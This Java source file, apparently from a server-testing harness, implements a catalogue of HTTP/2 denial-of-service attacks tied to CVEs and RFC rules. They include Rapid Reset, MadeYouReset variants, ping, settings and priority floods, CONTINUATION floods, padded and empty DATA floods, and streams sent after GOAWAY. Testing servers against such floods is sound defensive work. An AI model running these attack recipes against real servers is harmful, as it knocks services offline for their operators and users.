package io.proa.proving.attack;

import static io.proa.proving.attack.Http2Line.CONTINUATION;
import static io.proa.proving.attack.Http2Line.DATA;
import static io.proa.proving.attack.Http2Line.END_HEADERS;
import static io.proa.proving.attack.Http2Line.END_STREAM;
import static io.proa.proving.attack.Http2Line.GOAWAY;
import static io.proa.proving.attack.Http2Line.HEADERS;
import static io.proa.proving.attack.Http2Line.PADDED;
import static io.proa.proving.attack.Http2Line.PING;
import static io.proa.proving.attack.Http2Line.PRIORITY;
import static io.proa.proving.attack.Http2Line.PUSH_PROMISE;
import static io.proa.proving.attack.Http2Line.WINDOW_UPDATE;

import io.proa.formats.Http2Error;
import io.proa.proving.attack.Attack.Side;
import io.proa.proving.framing.Http2Frames;
import java.io.IOException;
import java.util.List;

/// Clients of HTTP/2 that send many frames which lead nowhere, or one that must not be.
final class Http2Floods {
    private static final int SETTINGS_ENABLE_PUSH = 2;

    private Http2Floods() {}

    /// What is done again and again, with the next stream that has not been used.
    @FunctionalInterface
    private interface Again {
        void on(Http2Line line, int stream) throws IOException;
    }

    private static Attack again(String name, String after, Again what) {
        return Attack.flood(
                name,
                Side.HTTP2,
                after,
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().small());
                    for (int stream = 1; attacker.goesOn(line); stream += 2) {
                        what.on(line, stream);
                    }
                    line.flush();
                    attacker.await();
                });
    }

    /// Like the other, on one stream whose request is not complete.
    private static Attack within(String name, String after, Again what) {
        return Attack.flood(
                name,
                Side.HTTP2,
                after,
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().small());
                    line.post(1);
                    while (attacker.goesOn(line)) {
                        what.on(line, 1);
                    }
                    line.flush();
                    attacker.await();
                });
    }

    static List<Attack> resets() {
        return List.of(
                again(
                        "rapid_reset",
                        "CVE-2023-44487",
                        (line, stream) -> {
                            line.get(stream);
                            line.reset(stream, Http2Error.CANCEL);
                        }),
                again(
                        "rapid_reset_noes",
                        "CVE-2023-44487, without END_STREAM",
                        (line, stream) -> {
                            line.post(stream);
                            line.reset(stream, Http2Error.CANCEL);
                        }),
                again(
                        "myr_zero_update",
                        "CVE-2025-8671, WINDOW_UPDATE of 0",
                        (line, stream) -> {
                            line.get(stream);
                            line.windowUpdate(stream, 0);
                        }),
                again(
                        "myr_overflow",
                        "CVE-2025-8671, window overflows",
                        (line, stream) -> {
                            line.get(stream);
                            line.windowUpdate(stream, Integer.MAX_VALUE);
                        }),
                again(
                        "myr_data_after_end",
                        "CVE-2025-8671, DATA behind the end",
                        (line, stream) -> {
                            line.get(stream);
                            line.frame(DATA, END_STREAM, stream, (byte) 'x');
                        }),
                again(
                        "myr_priority_length",
                        "CVE-2025-8671, PRIORITY of 4",
                        (line, stream) -> {
                            line.get(stream);
                            line.frame(PRIORITY, 0, stream, new byte[4]);
                        }),
                again(
                        "myr_bad_header",
                        "CVE-2025-8671, CVE-2019-9514",
                        (line, stream) -> {
                            byte[] bad = FieldText.request().field("BAD", "x").bytes();
                            line.frame(HEADERS, END_STREAM | END_HEADERS, stream, bad);
                        }),
                again(
                        "reset_with_data",
                        "CVE-2026-26311",
                        (line, stream) -> {
                            line.post(stream);
                            line.reset(stream, Http2Error.CANCEL);
                            line.frame(DATA, END_STREAM, stream, (byte) 'x');
                        }),
                shortRapidReset());
    }

    /// A connection more is what a client has in any number: it is ended before the others.
    private static Attack shortRapidReset() {
        Attack.Recipe recipe =
                attacker -> {
                    while (attacker.goesOn()) {
                        Http2Line line = attacker.http2(attacker.doors().small());
                        for (int stream = 1; stream < 120; stream += 2) {
                            line.get(stream);
                            line.reset(stream, Http2Error.CANCEL);
                        }
                        line.flush();
                        line.close();
                    }
                };
        return Attack.harmless(
                "rapid_reset_short",
                Side.HTTP2,
                "CVE-2023-44487, few on each of many connections",
                new Attack.Bounds(20_000, 8 << 20, 3),
                "no connection does more than a browser that is closed; what it began ends with it",
                recipe);
    }

    static List<Attack> frames() {
        byte[] eight = new byte[8];
        return List.of(
                again("ping_flood", "CVE-2019-9512", (line, _) -> line.frame(PING, 0, 0, eight)),
                deaf("ping_flood_unread", "CVE-2019-9512", line -> line.frame(PING, 0, 0, eight)),
                again("settings_flood", "CVE-2019-9515", (line, _) -> line.settings()),
                deaf("settings_flood_unread", "CVE-2019-9515", Http2Line::settings),
                again(
                        "settings_many",
                        "CVE-2020-11080",
                        (line, _) -> line.settings(new int[2 * 2000])),
                within(
                        "empty_data",
                        "CVE-2019-9518",
                        (line, stream) -> line.frame(DATA, 0, stream)),
                within(
                        "padded_data",
                        "CVE-2019-9518, nothing but padding",
                        (line, stream) -> {
                            byte[] padding = new byte[201];
                            padding[0] = (byte) 200;
                            line.frame(DATA, PADDED, stream, padding);
                        }),
                again(
                        "priority_flood",
                        "CVE-2019-9513",
                        (line, stream) -> line.frame(PRIORITY, 0, stream, new byte[5])),
                within(
                        "window_update_flood",
                        "CVE-2019-9513's kin",
                        (line, stream) -> line.windowUpdate(stream & 0, 1)),
                again(
                        "unknown_frames",
                        "CVE-2021-29258",
                        (line, _) -> line.frame(0x4d, 0, 0, eight)),
                within(
                        "goaway_flood",
                        "GOAWAY of the client's",
                        (line, _) -> {
                            line.frame(GOAWAY, 0, 0, eight);
                        }),
                again(
                        "push_promise",
                        "RFC 9113, 8.4: from a client",
                        (line, stream) -> {
                            line.frame(PUSH_PROMISE, END_HEADERS, stream, new byte[4]);
                        }),
                again(
                        "oversized_frame",
                        "RFC 9113, 4.2",
                        (line, stream) -> {
                            line.frame(DATA, 0, stream, new byte[20_000]);
                        }),
                trailers(),
                afterGoAway());
    }

    /// What is answered and never read.
    private static Attack deaf(String name, String after, Deaf what) {
        // The last words have two seconds.
        return Attack.stall(
                name,
                Side.HTTP2,
                after + ", answers unread",
                4,
                attacker -> {
                    Http2Line line = attacker.deafHttp2(attacker.doors().small());
                    while (attacker.goesOn(line)) {
                        what.on(line);
                    }
                    // Who does not read notices an end by writing.
                    while (!line.isEnded()) {
                        what.on(line);
                        line.flush();
                        attacker.pause(10);
                    }
                });
    }

    @FunctionalInterface
    private interface Deaf {
        void on(Http2Line line) throws IOException;
    }

    private static Attack trailers() {
        return again(
                "trailers_flood",
                "field blocks within a body",
                (line, stream) -> {
                    line.post(stream);
                    byte[] trailers = new FieldText().field("x-a", "y".repeat(4000)).bytes();
                    line.frame(HEADERS, END_HEADERS, stream, trailers);
                });
    }

    private static Attack afterGoAway() {
        return Attack.flood(
                "streams_after_goaway",
                Side.HTTP2,
                "streams behind a GOAWAY of one's own",
                attacker -> {
                    Http2Line line = attacker.http2(attacker.doors().deaf());
                    line.get(1);
                    line.frame(GOAWAY, 0, 0, new byte[8]);
                    for (int stream = 3; attacker.goesOn(line); stream += 2) {
                        line.get(stream);
                    }
                    line.flush();
                    attacker.await();
                });
    }

    static List<Attack> blocks() {
        return List.of(
                continuations("continuation_flood", "CVE-2024-27316", new byte[1000]),
                continuations("continuation_empty", "CVE-2026-33871", new byte[0]),
                again(
                        "window_update_idle",
                        "RFC 9113, 5.1: of a stream not begun",
                        (line, stream) -> {
                            line.frame(WINDOW_UPDATE, 0, stream, Http2Frames.word(1));
                        }));
    }

    private static Attack continuations(String name, String after, byte[] part) {
        return Attack.flood(
                name,
                Side.HTTP2,
                after,
                attacker -> {
                    Http2Line line =
                            attacker.http2(attacker.doors().small(), SETTINGS_ENABLE_PUSH, 0);
                    line.frame(HEADERS, END_STREAM, 1, Http2Line.GET);
                    while (attacker.goesOn(line)) {
                        line.frame(CONTINUATION, 0, 1, part);
                    }
                    line.flush();
                    attacker.await();
                });
    }
}
